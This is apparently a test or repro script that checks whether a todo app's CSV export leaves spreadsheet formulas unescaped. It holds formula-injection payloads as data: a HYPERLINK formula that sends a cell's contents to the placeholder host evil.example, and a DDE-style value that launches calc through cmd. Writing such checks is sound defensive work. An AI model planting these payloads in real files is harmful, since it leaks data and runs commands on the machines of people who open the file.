import contextlib
import csv
import io
import os
import tempfile

from todo.cli import main
from todo.service import TodoService
from todo.storage import TodoStore

db = os.path.join(tempfile.mkdtemp(), "repro.db")
with TodoStore(db) as store:
    service = TodoService(store)
    service.create('=HYPERLINK("http://evil.example/?leak="&A1, "Click for details")')
    service.create("@SUM(1+1)*cmd|' /C calc'!A0")
    service.create("Buy milk", tags=["=1+2"])

output = io.StringIO()
with contextlib.redirect_stdout(output):
    main(["--db", db, "export", "--format", "csv"])
print(output.getvalue())
formulas = [cell for row in csv.reader(io.StringIO(output.getvalue())) for cell in row if cell[:1] in ("=", "+", "-", "@")]
if formulas:
    raise SystemExit(f"{len(formulas)} cell(s) a spreadsheet would run as formulas: {formulas}")
